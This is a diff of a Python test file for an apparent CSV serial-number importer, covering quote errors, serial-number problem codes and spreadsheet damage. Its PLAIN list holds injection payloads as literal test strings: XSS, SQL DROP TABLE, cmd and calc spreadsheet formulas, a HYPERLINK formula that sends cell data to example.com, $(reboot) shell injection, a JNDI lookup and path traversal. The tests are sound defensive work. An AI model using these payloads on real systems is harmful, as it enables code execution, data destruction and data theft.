@@ -13,7 +13,6 @@ from tests.serial_files import (
     SHAPES,
     A,
     B,
-    C,
     bad,
     line,
     many,
@@ -25,28 +24,28 @@ from tests.serial_files import (
     text,
 )
 
-# A case a line: the rows below the heading (a pilcrow ends a line), then the row that
-# the refusal names.
+# A case a line: the rows below the heading (a pilcrow ends a line), then the problems
+# of rows that can still be read, or the row that the refusal names.
 BAD_QUOTES = """
-a bare quote for inches :: {A}¶{B}¶Acme,Bright,72" panel,SN9 :: 4
-a bare quote in a serial number :: Acme,Bright,M-450,SN"9¶{A} :: 2
-bare quotes around a word :: {A}¶Acme "Solar" Ltd,Bright,M-450,SN9 :: 3
-bare quotes that are doubled :: {A}¶Acme ""Solar"" Ltd,Bright,M-450,SN9 :: 3
-a blank before the opening quote :: {A}¶Acme, "Bright",M-450,SN9 :: 3
-a bare quote at the end of a cell :: {A}¶Acme",Bright,M-450,SN9 :: 3
-a bare quote in a further cell :: {A}¶{B},x"y :: 3
-text after a closing quote :: {A}¶"Acme" Ltd,Bright,M-450,SN9 :: 3
-text after two quotes :: {A}¶""Acme"",Bright,M-450,SN9 :: 3
-a blank after a closing quote :: {A}¶"Acme" ,Bright,M-450,SN9 :: 3
-quotes with backslashes :: {A}¶"Acme \\"Solar\\" Ltd",Bright,M-450,SN9 :: 3
-text after the last quote of a line :: {A}¶Acme,Bright,M-450,"SN9"x¶{B} :: 3
-an unclosed quote, and rows below :: {A}¶"Acme,Bright,M-450,SN9¶{B} :: 3
+a bare quote for inches :: {A}¶{B}¶Acme,Bright,72" panel,SN9 :: 4 - bare_quote
+a bare quote in a serial :: A,L,M,SN"9¶{A} :: 2 serial character; 2 - bare_quote
+bare quotes around a word :: {A}¶Acme "Solar" Ltd,L,M,SN9 :: 3 - bare_quote
+bare quotes that are doubled :: {A}¶Acme ""Solar"" Ltd,L,M,SN9 :: 3 - bare_quote
+a blank before the opening quote :: {A}¶Acme, "Bright",M-450,SN9 :: 3 - bare_quote
+a bare quote at the end of a cell :: {A}¶Acme",L,M,SN9 :: 3 - bare_quote
+a bare quote in a further cell :: {A}¶{B},x"y :: 3 - bare_quote; 3 - extra_cell
+text after a closing quote :: {A}¶"Acme" Ltd,L,M,SN9 :: 3
+text after two quotes :: {A}¶""Acme"",L,M,SN9 :: 3
+a blank after a closing quote :: {A}¶"Acme" ,L,M,SN9 :: 3
+quotes with backslashes :: {A}¶"Acme \\"Solar\\" Ltd",L,M,SN9 :: 3
+text after the last quote of a line :: {A}¶A,L,M,"SN9"x¶{B} :: 3
+an unclosed quote, and rows below :: {A}¶"A,L,M,SN9¶{B} :: 3
 an opening quote and nothing more :: {A}¶{B}¶" :: 4
-a bare quote below empty lines :: ¶¶{A}¶¶A"B,Bright,M-450,SN9 :: 6
-a bare quote below a line of commas :: {A}¶,,,¶A"B,Bright,M-450,SN9 :: 4
-a bare quote below a cell of 3 lines :: "A¶B¶C",Bright,M,SN8¶A"B,Bright,M-450,SN9 :: 3
-a bare quote behind a cell of 3 lines :: {A}¶"A¶B¶C",B"B,M,SN8¶{B} :: 3
-an unclosed quote below cells of 2 lines :: "A¶B","C¶D",M,SN8¶{A}¶"Acme,Bright :: 4
+a bare quote below empty lines :: ¶¶{A}¶¶A"B,L,M,SN9 :: 6 - bare_quote
+a bare quote below a line of commas :: {A}¶,,,¶A"B,L,M,SN9 :: 4 - bare_quote
+below 3 lines :: A,B,"¶C¶",1AB¶A"B,L,M,1AC :: 3 - bare_quote
+behind 3 lines :: {A}¶A,"¶B¶C",M"M,1AB :: 3 licensee hidden_character; 3 - bare_quote
+an unclosed quote below cells of 2 lines :: "A¶B","C¶D",M,SN8¶{A}¶"Acme,B :: 4
 """
 
 
@@ -54,14 +53,22 @@ def bad_quote(case, end):
     name, rows, at = case.split(" :: ")
     data = "¶".join((line(HEAD), rows.format(A=line(A), B=line(B)), ""))
     ends = {"\r\n": "CRLF", "\n": "LF", "\r": "CR"}[end]
-    return no(f"{name} ({ends})", data.replace("¶", end), f"row {at}")
+    name, data = f"{name} ({ends})", data.replace("¶", end)
+    if at.isdecimal():
+        return no(name, data, f"row {at}")
+    return bad(name, data, *problems_of(at))
 
 
 SAYING = row("SN1", 'Acme "Solar", Ltd', '"', 'M""5,"')
 QUOTES = [
     *map(bad_quote, BAD_QUOTES.strip().splitlines(), cycle(("\r\n", "\n", "\r"))),
     no("an unclosed quote in the heading", AB.replace("Supp", '"Supp'), "row 1"),
-    no("a bare quote in the heading", AB.replace("name", '"name"'), "row 1"),
+    bad(
+        "a bare quote in the heading",
+        AB.replace("name", '"name"'),
+        (1, "supplier_name", "heading_missing"),
+        (1, "", "heading_unknown"),
+    ),
     ok("the last quote ends the file", quoted(HEAD, A, B)[:-2], A, B),
     ok("quotes and commas inside quotes", text(SAYING, B), SAYING, B),
     ok("blanks inside quotes", quoted(HEAD, [f" {cell}  " for cell in A]), A),
@@ -109,11 +116,11 @@ UNFIT = (
     "\u0130\u0131\u00df\u1e9e\u017f\ufb01\u00c9\u00e9\u00f1\u00d8\u00aa\u00ba"
     "\u2010\u2011\u2012\u2013\u2014\u2212\ufe63\u00b7\u2024\u2026\u2044\u2215\u2236"
     "\u2116\u2018\u2019\u201c\u201d\u2033\u00b4\u20ac\u00a3\u2122\u00b0\U0001f31e"
-    "\ufe0f\u034f\u0301\ufffd"
+    "\ufe0f\u034f\u0301"
 )
 TAKEN = """
 20E2300417 Q02155E12 1E5 1e5 1E12 12E 0E1 E+1234 12.345 A238.0 238.0A 1.2.0 SN1E+20
-1E+20-A A1.23457E+12 MAR12 12MAR A12-Mar 12-MAX #1234 +1234 -1234 (1234) _1234 :1234
+1E+20-A A1.23457E+12 MAR12 12MAR A12-Mar 12-MAX #1234 +1234 -1234 _1234 :1234
 /1234 0x1F NAN1 1_000_000 000 00012345 238 160719300412345678 O0I1L5S8B abc-1 a.b/c:d1
 A-1._/:+#()9 AB-12 AB.12 AB_12 AB/12 AB:12 AB+12 AB#12 AB(12 AB)12 AB12- AB12. AB12_
 AB12/ AB12: AB12+ AB12# AB12( AB12) A--1 ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789
@@ -122,10 +129,11 @@ NOT_TAKEN = {
     "spreadsheet_damage": """
         1.23457E+12 1.23457e+12 1.6071930041E+017 1e+20 1E+20 3E+15 9.99E+307
         1,23457E+12 238.0 1607193.0 ###### ######## #VALUE! #N/A #NAME? #DIV/0! #REF!
-        #NUM! #NULL! 1,607,193 12,345,678 12-Mar 1-Sep 31-Dec""",
-    "no_digit": """
-        N/A n/a N.A. ABC UNKNOWN none NULL NaN TRUE TBA --- ... ___ (BLANK) A-B/C""",
-    "too_short": "1 12 A1 AB - NA 0",
+        #NUM! #NULL! 1,607,193 12,345,678 12-Mar 1-Sep 31-Dec
+        (1234)""",
+    "missing": "N/A n/a N.A. UNKNOWN none NULL NaN TBA (BLANK) - NA",
+    "no_digit": "ABC TRUE --- ... ___ A-B/C",
+    "too_short": "1 12 A1 AB 0",
     "character": """
         ??? =1234 @1234 'A123 ''-A123 '=A123 '@A123 A'123 A123' -'A12 A1,B2 !""",
 }
@@ -151,6 +159,7 @@ SERIALS = [
         for cell in cells.split()
     ),
     *(of_serial(f"{called(c)} in it", f"SN{c}12", "character") for c in UNFIT + HIDDEN),
+    of_serial("a replacement character in it", "SN\ufffd12", "lost_characters"),
     of_serial("a line break of two characters in it", "SN\r\n12", "character"),
     of_serial("an invisible character at its start", "\u200bSN12", "character"),
     of_serial("an invisible character at its end", "SN12\u200b", "character"),
@@ -169,10 +178,10 @@ SERIALS = [
     of_serial("61 characters, one a blank", "A1 " + "A1" * 29, "character"),
     of_serial("100,000 characters", "A1" * 50000, "too_long"),
     of_serial("one character that is not allowed", "\u00e9", "character"),
-    of_serial("words with a blank", "not available", "character"),
+    of_serial("words for nothing", "not available", "missing"),
     of_serial("apostrophe, then hyphen", "'-abc1", stored="-ABC1"),
     of_serial("apostrophe, then plus", "'+123", stored="+123"),
-    of_serial("apostrophe, then hyphen only", "'-", "too_short"),
+    of_serial("apostrophe, then hyphen only", "'-", "missing"),
 ]
 
 
@@ -211,11 +220,11 @@ COMPOSED = {
 # Plain text in a name: kept to the letter. A broken bar parts the texts.
 PLAIN = r"""
 <script>alert(1)</script> ¦ "><img src=x onerror=alert(1)> ¦ &lt;b&gt; &amp; &#39;
-Robert'); DROP TABLE panels;-- ¦ ' OR '1'='1 ¦ NULL ¦ None ¦ N/A ¦ #N/A ¦ 1.23457E+12
-=cmd|' /C calc'!A1 ¦ =HYPERLINK("http://example.com/?a="&A1,"here") ¦ 238.0 ¦ 12-Mar
+Robert'); DROP TABLE panels;-- ¦ ' OR '1'='1
+=cmd|' /C calc'!A1 ¦ =HYPERLINK("http://example.com/?a="&A1,"here") ¦ 238.0
 @SUM(1+1)*cmd|' /C calc'!A0 ¦ +61 2 9999 0000 ¦ -1+1 ¦ ../../etc/passwd ¦ C:\Windows
 $(reboot) `reboot` ; reboot | reboot ¦ ${jndi:ldap://example.com/a} ¦ {{7*7}} {% raw %}
-%s %d %(name)s %00 {0} {name} ¦ \n \0 \x00 \u200b ¦ 'Acme' "Solar" ''Acme ¦ 'Acme Ltd
+%s %d %(name)s %00 {0} {name} ¦ \n \0 \x00 \u200b ¦ 'Acme' "Solar" ''Acme
 O'Brien & Söhne, Łódź ¦ Acme  Solar,  two blanks ¦ 晶科能源 太陽光 한화큐셀 ¦ x
 Солнце Ήλιος שמש شمس सूर्य ¦ ☺ 🌞🔆⚡ ¦ ＡＣＭＥ １２３ ﬁ ² ½ Ⅷ ſ ß ı İ
 Acme™ – “Solar” … №1 €
@@ -238,63 +247,4 @@ CELLS = [
 ]
 
 
-# A case a line: the serial numbers of rows 2 and on, and which rows repeat one.
-REPEATED = """
-the whole row again :: SN1|SN1 :: 3
-in other letters :: SN1a|sn1A :: 3
-with blanks around :: SN1|  SN1 :: 3
-with no-break spaces around :: SN1\u00a0|\u00a0SN1 :: 3
-with an apostrophe taken off :: -SN1|'-SN1 :: 3
-three times :: SN1|SN1|sn1 :: 3 4
-two pairs :: SN1|SN2|SN2|SN1 :: 4 5
-leading zeros count :: 123|0123|00123 ::
-hyphens and dots count :: AB12|AB-12|AB.12|A-B12 ::
-letters are not the digits they look like :: SN0|SNO0|SN00|SN1|SNI1|SNL1 ::
-"""
-# A case a line: the rows below the heading, then row, field and code of each problem.
-PROBLEMS = """
-all but the serial number differs :: {A}¶X,Y,Z,{a} :: 3 serial duplicate
-repeated below empty lines :: ¶{A}¶¶,,,¶{B}¶{A} :: 7 serial duplicate
-repeated, another problem :: {A}¶,Y,Z,{a} :: 3 supplier missing; 3 serial duplicate
-repeated from a bad row :: ,Y,Z,{a}¶{A} :: 2 supplier missing; 3 serial duplicate
-a row that ends early :: X,Y,Z¶{A} :: 2 serial missing
-a row of one cell :: {A}¶X :: 3 licensee missing; 3 model missing; 3 serial missing
-a bare comma in a name :: X, Ltd,Y,Z99,SN9¶{A} :: 2 - extra_cell
-a name in apostrophes with a comma :: {A}¶'X, Ltd',Y,Z99,SN9 :: 3 - extra_cell
-tall rows :: "A¶B",Y,Z,S80¶X,Y,Z,A1 :: 2 supplier hidden_character; 3 serial too_short
-two in one row :: {A}¶ ,Y,Z,N/A¶{B} :: 3 supplier missing; 3 serial no_digit
-many :: ¶X,,Z,{a}¶{A}¶{B},x :: 3 licensee missing; 4 serial duplicate; 5 - extra_cell
-two further cells :: {A},x,y¶{B} :: 2 - extra_cell
-a far further cell :: {A}¶{B},,,,x :: 3 - extra_cell
-further cells in two rows :: {A},x¶{B},,¶{C},0 :: 2 - extra_cell; 4 - extra_cell
-below lines of commas :: ,,,¶{A}¶,¶X,Y,Z,A1 :: 5 serial too_short
-"""
-
-
-def repeated(case):
-    name, serials, at = case.split(" ::")
-    rows = [row(serial) for serial in serials.strip(" ").split("|")]
-    found = [(int(number), FIELDS[3], "duplicate") for number in at.split()]
-    return bad(name, text(*rows), *found) if found else ok(name, text(*rows), *rows)
-
-
-def with_problems(case):
-    name, rows, said = case.split(" :: ")
-    rows = rows.format(A=line(A), B=line(B), C=line(C), a=A[3]).replace("¶", "\r\n")
-    return bad(f"rows: {name}", text() + rows, *problems_of(said))
-
-
-ROWS = [
-    *map(repeated, REPEATED.strip().splitlines()),
-    *map(with_problems, PROBLEMS.strip().splitlines()),
-    bad("damaged alike", text(*[row("1E+20")] * 2), *each(2, 3, "spreadsheet_damage")),
-    bad("repeated after 1,000", text(*many(999), A), (1001, FIELDS[3], "duplicate")),
-    bad(
-        "lines end in LF CR",
-        text(A, row("A1"), eol="\n\r"),
-        (5, FIELDS[3], "too_short"),
-    ),
-    bad("a cell in front", text(("x", *A), head=("", *HEAD)), (2, "", "extra_cell")),
-    bad("a cell unnamed", text((*A, "x"), head=(*HEAD, "")), (2, "", "extra_cell")),
-]
-MORE_FILES = [*QUOTES, *LIMITS, *SERIALS, *CELLS, *ROWS]
+MORE_FILES = [*QUOTES, *LIMITS, *SERIALS, *CELLS]
